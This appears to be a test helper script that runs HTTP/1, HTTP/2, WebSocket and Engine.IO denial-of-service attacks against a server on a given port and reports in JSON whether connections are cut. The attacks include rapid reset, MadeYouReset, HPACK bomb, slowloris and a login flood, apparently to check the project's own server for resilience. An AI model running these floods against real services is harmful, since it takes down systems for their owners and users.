// Attacks on a server, each as a stranger on the network would make it, from a process of its own:
//     node tests/api/lib/attacks.mjs NAME PORT SIZE [TOKEN]
// goes on until SIZE of it is done (or for as long as it takes nothing but time: until it is killed) and prints what came of it as
// JSON. TOKEN is somebody's: an attacker may have an account.
import { pathToFileURL } from 'node:url';
import { setTimeout as pause } from 'node:timers/promises';
import { Line, many } from './line-raw.mjs';
import { sockets } from './attacks-sockets.mjs';
import {
  ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, SETTINGS, START, frame, framesOf, indexed, literal, odd, post,
  remembered, request, reset, setting, windowUpdate,
} from './frames.mjs';

// Sends `total` times what make(i) gives, `batch` at a time, i from 0 on each connection; when it is cut, from a new connection at once.
async function flood(port, total, make, { start = START, batch = 100, most = Infinity } = {}) {
  const result = { sent: 0, cuts: 0 };
  while (result.sent < total) {
    const line = new Line(port);
    await line.write(start);
    for (let i = 0; line.isOpen && result.sent < total && i < most; i += batch) {
      await line.write(Buffer.concat(Array.from({ length: batch }, (_, k) => make(i + k))));
      result.sent += batch;
      await new Promise(setImmediate);
    }
    if (line.isOpen) {
      await Promise.race([line.closed, pause(200)]);
    }
    result.cuts += line.isOpen ? 0 : 1;
    result.goaway ??= [...framesOf(line.got)].find((f) => f.type === GOAWAY)?.payload.readUInt32BE(4);
    line.end();
  }
  return result;
}

const STREAMS = 2 ** 29;        // on one connection

// A request that a reader thread has to answer, from somebody known: 40 bytes, once the token is in the table.
function asking(token) {
  const known = remembered('authorization', `Bearer ${token}`);
  const block = (i) => Buffer.concat([request('/rooms'), i === 0 ? known : indexed(62)]);
  return (i, flags = END_HEADERS | END_STREAM) => frame(HEADERS, flags, odd(i), block(i));
}

export const attacks = {
  'rapid reset': {
    size: [20_000, 200_000], unit: 'streams',
    run: (port, n, token) => {
      const get = asking(token);
      return flood(port, n, (i) => Buffer.concat([get(i), reset(odd(i))]), { most: STREAMS });
    },
  },
  'MadeYouReset: window updates of 0': {
    size: [20_000, 200_000], unit: 'streams',
    run: (port, n, token) => {
      const get = asking(token);
      return flood(port, n, (i) => Buffer.concat([get(i), windowUpdate(odd(i), 0)]), { most: STREAMS });
    },
  },
  'MadeYouReset: windows that overflow': {
    size: [20_000, 200_000], unit: 'streams',
    run: (port, n, token) => {
      const get = asking(token);
      return flood(port, n, (i) => Buffer.concat([get(i), windowUpdate(odd(i), 0x7fffffff)]), { most: STREAMS });
    },
  },
  'MadeYouReset: data behind the end': {
    size: [20_000, 200_000], unit: 'streams',
    run: (port, n, token) => {
      const get = asking(token);
      return flood(port, n, (i) => Buffer.concat([get(i), frame(DATA, 0, odd(i), Buffer.from('x'))]), { most: STREAMS });
    },
  },
  // One entry of the table, thousands of times in each of a hundred blocks that never become requests.
  'HPACK bomb': {
    size: [10, 40], unit: 'MB', isOne: true,
    run: async (port, mb) => {
      const references = Buffer.alloc(16384, indexed(62));
      const line = new Line(port);
      const blocks = Math.max(1, Math.floor(mb * 1048576 / (25 * 16384)));
      await line.write(Buffer.concat([START, frame(HEADERS, END_HEADERS, 1, Buffer.concat([
        request('/', 'POST'), remembered('x', 'y'.repeat(4000))]))]));
      let sent = 0;
      for (let i = 1; i < blocks && line.isOpen; i++) {
        await line.write(frame(HEADERS, 0, odd(i), request('/', 'POST')));
        for (let k = 0; k < 24 && line.isOpen; k++) {
          await line.write(frame(CONTINUATION, k === 23 ? END_HEADERS : 0, odd(i), references));
          sent += references.length;
        }
      }
      await Promise.race([line.closed, pause(2000)]);
      line.end();
      return { sent: Math.round(sent / 1048576), cuts: line.isOpen ? 0 : 1 };
    },
  },
  'CONTINUATION without end': {
    size: [100_000, 1_000_000], unit: 'frames',
    run: (port, n) => flood(port, n, () => frame(CONTINUATION, 0, 1), {
      start: Buffer.concat([START, frame(HEADERS, END_STREAM, 1, request())]), batch: 1000 }),
  },
  'headers without end over HTTP/2': {
    size: [2000, 20_000], unit: 'requests',
    run: (port, n) => {
      const block = Buffer.concat([request(), ...many(1500, (k) => literal(`x${k}`, 'y'))]);
      return flood(port, n, (i) => frame(HEADERS, END_HEADERS | END_STREAM, odd(i), block), { batch: 10, most: STREAMS });
    },
  },
  'PING without end': {
    size: [200_000, 2_000_000], unit: 'frames',
    run: (port, n) => flood(port, n, () => frame(PING, 0, 0, Buffer.alloc(8)), { batch: 1000 }),
  },
  'SETTINGS without end': {
    size: [200_000, 2_000_000], unit: 'frames',
    run: (port, n) => flood(port, n, (i) => frame(SETTINGS, 0, 0, setting(4, 65535 + i % 2)), { batch: 1000 }),
  },
  'windows of nothing': {         // a hundred large answers, never read, on each connection
    size: [20, 100], unit: 'connections', isHeld: true,
    run: async (port, n, token) => {
      const get = asking(token);
      const lines = many(n, () => new Line(port));
      for (const line of lines) {
        await line.write(Buffer.concat([START.subarray(0, 24), frame(SETTINGS, 0, 0, setting(4, 0)), frame(SETTINGS, ACK, 0),
          ...many(90, (i) => get(i))]));
      }
      await pause(3000);
      const cuts = lines.filter((line) => !line.isOpen).length;
      lines.forEach((line) => line.end());
      return { sent: n, cuts };
    },
  },
  'header lines without end over HTTP/1': {
    size: [100_000, 1_000_000], unit: 'lines',
    run: (port, n) => flood(port, n, (i) => Buffer.from(`X-${i}: y\r\n`), { start: 'GET / HTTP/1.1\r\nHost: x\r\n', batch: 500 }),
  },
  slowloris: {                    // a byte now and then on each of many connections
    size: [1000, 9000], unit: 'connections', isHeld: true,
    run: async (port, n) => {
      const lines = [];
      for (let i = 0; i < n; i++) {
        lines.push(new Line(port));
        if (i % 100 === 99) {
          await pause(5);
        }
      }
      const text = 'GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ' + 'y'.repeat(100);
      for (let at = 0; at < 30; at++) {
        for (const line of lines) {
          await line.write(text[at]);
        }
        await pause(100);
      }
      const cuts = lines.filter((line) => !line.isOpen).length;
      lines.forEach((line) => line.end());
      return { sent: n, cuts };
    },
  },
  'half-open connections': {
    size: [2000, 10_000], unit: 'connections', isHeld: true,
    run: async (port, n) => {
      const lines = [];
      for (let i = 0; i < n; i++) {
        lines.push(new Line(port));
        if (i % 100 === 99) {
          await pause(5);
        }
      }
      await pause(3000);
      const cuts = lines.filter((line) => !line.isOpen).length;
      lines.forEach((line) => line.end());
      return { sent: n, cuts };
    },
  },
  'giant bodies': {               // all but their last byte
    size: [50, 400], unit: 'MB', isHeld: true,
    run: async (port, n) => {
      const lines = many(n, () => new Line(port));
      const most = Buffer.alloc(999_999, 'x');
      await Promise.all(lines.map(async (line) => {
        await line.write(`POST /socket.io/?EIO=4&transport=polling&sid=x HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n`);
        await line.write(most);
      }));
      await pause(3000);
      const cuts = lines.filter((line) => !line.isOpen).length;
      lines.forEach((line) => line.end());
      return { sent: n, cuts };
    },
  },
  'giant bodies over HTTP/2': {
    size: [50, 400], unit: 'MB', isHeld: true,
    run: async (port, n) => {
      const slice = Buffer.alloc(16384);
      const lines = many(Math.ceil(n / 50), () => new Line(port));
      await Promise.all(lines.map(async (line) => {
        await line.write(Buffer.concat([START, ...many(50, (i) => post(odd(i), '/socket.io/?EIO=4&transport=polling&sid=x'))]));
        for (let k = 0; k < 60; k++) {
          for (let i = 0; i < 50 && line.isOpen; i++) {
            await line.write(frame(DATA, 0, odd(i), slice));
          }
        }
      }));
      await pause(2000);
      const cuts = lines.filter((line) => !line.isOpen).length;
      lines.forEach((line) => line.end());
      return { sent: n, cuts };
    },
  },
  'WebSocket pings without end': { size: [200_000, 2_000_000], unit: 'frames', run: (port, n) => floodFrames(port, n, 0x89) },
  'WebSocket fragments of nothing': { size: [200_000, 2_000_000], unit: 'frames', run: (port, n) => floodFrames(port, n, 0x00, 0x01) },
  'Engine.IO packets that say nothing': {
    size: [200_000, 2_000_000], unit: 'frames', run: (port, n) => floodFrames(port, n, 0x81, undefined, '6') },
  ...sockets,
  logins: {
    size: [100, 4000], unit: 'logins',
    run: async (port, n) => {
      let answered = 0, refused = 0;
      await Promise.all(many(40, async (k) => {
        const line = new Line(port);
        for (let i = 0; i < n / 40 && line.isOpen; i++) {
          const body = JSON.stringify({ email: `nobody${k}-${i}@example.org`, password: 'wrong horse battery' });
          const was = line.n;
          line.got = Buffer.alloc(0);
          await line.write(`POST /auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
          while (line.isOpen && line.n === was) {
            await Promise.race([new Promise((heard) => line.socket.once('data', heard)), line.closed]);
          }
          answered++;
          refused += /^HTTP\/1\.1 (429|503)/.test(line.got.toString('latin1')) ? 1 : 0;
        }
        line.end();
      }));
      return { sent: answered, cuts: refused };
    },
  },
};

// Frames of a client, masked with 0, on an upgraded connection that never becomes a session of anybody.
async function floodFrames(port, n, first, begin, text = '') {
  const start = 'GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n' +
    'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n';
  const one = (byte) => Buffer.concat([Buffer.from([byte, 0x80 | text.length, 0, 0, 0, 0]), Buffer.from(text)]);
  return flood(port, n, (i) => one(i === 0 && begin !== undefined ? begin : first), { start, batch: 1000 });
}

if (import.meta.url === pathToFileURL(process.argv[1]).href) {
  const [, , name, port, size, token] = process.argv;
  const began = Date.now();
  const result = await attacks[name].run(Number(port), Number(size), token);
  console.log(JSON.stringify({ ...result, ms: Date.now() - began }));
  process.exit(0);
}
